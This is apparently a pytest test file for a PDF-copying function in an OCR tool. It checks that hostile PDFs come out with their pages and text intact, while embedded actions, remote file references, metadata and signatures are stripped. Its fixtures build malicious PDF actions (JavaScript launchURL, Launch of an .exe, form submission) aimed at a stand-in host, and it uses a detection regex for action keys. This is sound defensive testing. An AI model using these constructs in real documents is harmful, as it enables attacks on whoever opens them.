"""Hostile PDFs of every kind: a copy shows their pages and carries nothing that acts."""

import re
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import numpy as np
import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Object, String

from ocr.pdf_things import dictionaries_of
from ocr.searchable import PieceSource, build_piece
from tests.ocr import paper
from tests.ocr.shown import picture_of, text_of

CREATED = datetime(2026, 3, 14, 9, 30, tzinfo=UTC)
EVIL = "piege.example"
ADDRESS = String(f"http://{EVIL}/")
FILE = Dictionary(Type=Name.Filespec, F=String(f"//{EVIL}/x.exe"), UF=String(f"//{EVIL}/x.exe"))
ACTIONS = {
    "javascript": Dictionary(S=Name.JavaScript, JS=String(f"app.launchURL('{EVIL}')")),
    "launch": Dictionary(S=Name.Launch, F=FILE),
    "uri": Dictionary(S=Name.URI, URI=ADDRESS),
    "submit": Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=ADDRESS)),
    "import": Dictionary(S=Name.ImportData, F=FILE),
    "remote": Dictionary(S=Name.GoToR, F=FILE, D=Array([0, Name.Fit])),
    "embedded": Dictionary(S=Name.GoToE, F=FILE, D=Array([0, Name.Fit])),
    "named": Dictionary(S=Name.Named, N=Name("/Print"), F=FILE),
    "thread": Dictionary(S=Name.Thread, F=FILE, D=0),
    "chained": Dictionary(S=Name.GoTo, D=Array([0]), Next=Dictionary(S=Name.URI, URI=ADDRESS)),
}
Carrier = Callable[[pikepdf.Pdf, Object], None]


def _root_open(pdf: pikepdf.Pdf, action: Object) -> None:
    pdf.Root.OpenAction = action


def _root_events(pdf: pikepdf.Pdf, action: Object) -> None:
    pdf.Root.AA = Dictionary(WC=action, WP=action)


def _page_events(pdf: pikepdf.Pdf, action: Object) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=action, C=action)


def _names(pdf: pikepdf.Pdf, action: Object) -> None:
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), action])))


def _link(pdf: pikepdf.Pdf, action: Object) -> None:
    _annotate(pdf, Dictionary(Subtype=Name.Link, A=action, PA=action))


def _button(pdf: pikepdf.Pdf, action: Object) -> None:
    field = Dictionary(Subtype=Name.Widget, FT=Name.Btn, T=String("b"), A=action, AA=Dictionary(K=action, E=action))
    pdf.Root.AcroForm = Dictionary(Fields=Array([_annotate(pdf, field)]), XFA=pdf.make_stream(EVIL.encode()))


def _highlight(pdf: pikepdf.Pdf, action: Object) -> None:
    """A mark that the copy keeps, with an action, an answer with one, a note window and its author."""
    answer = pdf.make_indirect(Dictionary(Subtype=Name.Text, Rect=paper.array(0, 0, 9, 9), A=action))
    mark = Dictionary(Subtype=Name.Highlight, QuadPoints=paper.array(0, 20, 20, 20, 0, 0, 20, 0), T=String(EVIL))
    mark.A, mark.AA, mark.IRT, mark.Popup, mark.AF = action, Dictionary(E=action), answer, answer, Array([FILE])
    _annotate(pdf, mark)


def _screen(pdf: pikepdf.Pdf, action: Object) -> None:
    content = Dictionary(Assets=Dictionary(Names=Array([String("a"), FILE])))
    for kind in (Name.Screen, Name.RichMedia, Name("/3D"), Name.Movie, Name.Sound, Name.FileAttachment):
        _annotate(pdf, Dictionary(Subtype=kind, A=action, FS=FILE, RichMediaContent=content, Movie=FILE))


def _outline(pdf: pikepdf.Pdf, action: Object) -> None:
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("a", 0))
    pdf.Root.Outlines.First.A = action


def _marked_content(pdf: pikepdf.Pdf, action: Object) -> None:
    """Where a reader looks for nothing that acts, which is no reason to pass it on."""
    pdf.pages[0].contents_add(b"/Span /P0 BDC EMC")
    pdf.pages[0].obj.Resources.Properties = Dictionary(P0=Dictionary(Whatever=Array([action])))


def _annotate(pdf: pikepdf.Pdf, mark: Object) -> Object:
    mark.Type, mark.Rect = Name.Annot, paper.array(0, 0, 20, 20)
    placed = pdf.make_indirect(mark)
    page = pdf.pages[0].obj
    page.Annots = Array([*page.get("/Annots", Array()), placed])
    return placed


def copied(pdf: pikepdf.Pdf, folder: Path) -> Path:
    source = PieceSource(pdf=paper.saved(pdf, folder / "a.pdf"), number=1, rotation=0, words=(), add_text=False)
    build_piece([source], folder / "out.pdf", title="Passeport", created=CREATED)
    return folder / "out.pdf"


def unpacked(pdf: Path) -> bytes:
    """The file with every stream and object laid open."""
    with pikepdf.open(pdf) as piece:
        open_ = pdf.with_suffix(".open")
        mode = pikepdf.ObjectStreamMode.disable
        piece.save(open_, compress_streams=False, object_stream_mode=mode, stream_decode_level=_ALL)
    return open_.read_bytes()


_ALL = pikepdf.StreamDecodeLevel.generalized
CARRIERS = (
    _root_open, _root_events, _page_events, _names, _link, _button, _highlight, _screen, _outline, _marked_content,
)  # fmt: skip


@pytest.mark.parametrize("carrier", CARRIERS)
@pytest.mark.parametrize("action", ACTIONS.values(), ids=ACTIONS.keys())
def test_no_action_reaches_a_copy(tmp_path: Path, carrier: Carrier, action: Object) -> None:
    pdf = paper.new_pdf([paper.stream_of(["Bonjour"])])
    carrier(pdf, action)
    out = copied(pdf, tmp_path)
    assert text_of(out) == "Bonjour"
    laid_open = unpacked(out)
    assert EVIL.encode() not in laid_open
    assert not re.search(rb"/(?:A|AA|JS|URI|JavaScript|Launch|OpenAction|EF|XFA|AcroForm)\b", laid_open)


def test_data_that_lie_in_other_files_are_not_asked_for(tmp_path: Path) -> None:
    pdf = pikepdf.new()
    page = paper.scan_page(pdf, paper.printed(dpi=40), dpi=40)
    image = page.obj.Resources.XObject.Im0
    image.F, image.FFilter = FILE, Name.DCTDecode
    image.Alternates = Array([Dictionary(Image=image, DefaultForPrinting=True)])
    image.OPI = Dictionary({"/1.3": Dictionary(F=FILE)})
    form = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=paper.array(0, 0, 9, 9))
    form.Ref = Dictionary(F=FILE, Page=0)
    page.obj.Resources.XObject.Fm = form
    page.contents_add(b"/Fm Do")
    assert EVIL.encode() not in unpacked(copied(pdf, tmp_path))


def test_a_copy_tells_of_nobody_who_worked_on_the_file(tmp_path: Path) -> None:
    pdf = pikepdf.new()
    page = paper.scan_page(pdf, paper.printed(dpi=40), dpi=40)
    told = b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>Awa Camara</x:xmpmeta>"
    for thing in (pdf.Root, page.obj, page.obj.Resources.XObject.Im0):
        thing.Metadata = pdf.make_stream(told, Type=Name.Metadata, Subtype=Name.XML)
        thing.PieceInfo = Dictionary(App=Dictionary(Private=String("Awa Camara"), LastModified=String("D:2026")))
    pdf.docinfo[Name.Author] = String("Awa Camara")
    pdf.Root.Lang = String("wo")
    assert b"Camara" not in unpacked(copied(pdf, tmp_path))


def test_a_signed_file_is_copied_with_its_seal_shown_and_says_where_its_signature_holds(tmp_path: Path) -> None:
    pdf = paper.new_pdf([b""])
    look = pdf.make_stream(b"0 g 0 0 200 40 re f", Type=Name.XObject, Subtype=Name.Form)
    look.BBox, look.Resources = paper.array(0, 0, 200, 40), Dictionary()
    signature = Dictionary(Type=Name.Sig, Filter=Name("/Adobe.PPKLite"), Contents=String(b"\x30" * 64))
    signature.ByteRange, signature.Name = paper.array(0, 1, 2, 3), String("Awa Camara")
    field = Dictionary(Subtype=Name.Widget, FT=Name.Sig, T=String("s"), V=pdf.make_indirect(signature), F=132)
    field.AP = Dictionary(N=look)
    placed = _annotate(pdf, field)
    placed.Rect = paper.array(100, 100, 300, 140)
    pdf.Root.AcroForm = Dictionary(Fields=Array([placed]), SigFlags=3)
    pdf.Root.Perms = Dictionary(DocMDP=signature)
    received = paper.saved(pdf, tmp_path / "a.pdf").read_bytes()
    out = copied(pdf, tmp_path)
    assert (tmp_path / "a.pdf").read_bytes() == received
    assert (picture_of(out) < 50).sum() > 7000
    with pikepdf.open(out) as piece:
        assert not {"/AcroForm", "/Perms", "/DSS"} & set(piece.Root.keys())
        assert not any(thing.get("/Type") == Name.Sig for thing in dictionaries_of(piece))
        assert "signature" in str(piece.docinfo.Subject)
        with piece.open_metadata() as metadata:
            assert "signature" in metadata["dc:description"]


@pytest.mark.parametrize(
    "odd",
    [
        Dictionary(OCProperties=Array([1])),
        Dictionary(OCProperties=Dictionary(OCGs=Array([1, Name.A]), D=Array())),
        Dictionary(AcroForm=String("x")),
        Dictionary(AcroForm=Dictionary(Fields=3, NeedAppearances=True, SigFlags=Name.A)),
        Dictionary(Perms=1),
    ],
    ids=["layers", "groups", "form", "fields", "permissions"],
)
def test_what_makes_no_sense_in_a_file_is_passed_over(tmp_path: Path, odd: Object) -> None:
    pdf = paper.new_pdf([paper.stream_of(["Bonjour"])])
    for key, value in odd.items():
        pdf.Root[key] = value
    pdf.pages[0].obj.Annots = Array([1, Name.A, Dictionary(Subtype=Name.Highlight), Dictionary(Subtype=3)])
    pdf.pages[0].obj.Resources.ExtGState = Dictionary(G=Dictionary(BM=3, RI=Array(), TR2=4), H=Array())
    pdf.pages[0].obj.Resources.ColorSpace = Dictionary(C=Array(), D=Array([Name.Indexed, 4]), E=3)
    assert text_of(copied(pdf, tmp_path)) == "Bonjour"


def test_what_a_page_draws_may_bear_the_name_of_an_action(tmp_path: Path) -> None:
    pdf = paper.new_pdf([b""])
    drawn = pdf.make_stream(b"0 g 100 100 300 300 re f", Type=Name.XObject, Subtype=Name.Form)
    drawn.BBox = paper.array(0, 0, 595, 842)
    names = ("/AA", "/JS", "/Names", "/S")
    pdf.pages[0].obj.Resources.XObject = Dictionary(dict.fromkeys(names, drawn))
    font = pdf.pages[0].obj.Resources.Font.F1
    pdf.pages[0].obj.Resources.Font = Dictionary({"/Ref": font})
    content = b"BT /Ref 20 Tf 50 700 Td (Bonjour) Tj ET " + b" ".join(name.encode() + b" Do" for name in names)
    pdf.pages[0].obj.Contents = pdf.make_stream(content)
    shown = picture_of(paper.saved(pdf, tmp_path / "before.pdf"))
    out = copied(pdf, tmp_path)
    assert np.array_equal(picture_of(out), shown)
    with pikepdf.open(out) as piece:
        assert set(piece.pages[0].obj.Resources.XObject.keys()) == set(names)
        assert set(piece.pages[0].obj.Resources.Font.keys()) == {"/Ref"}
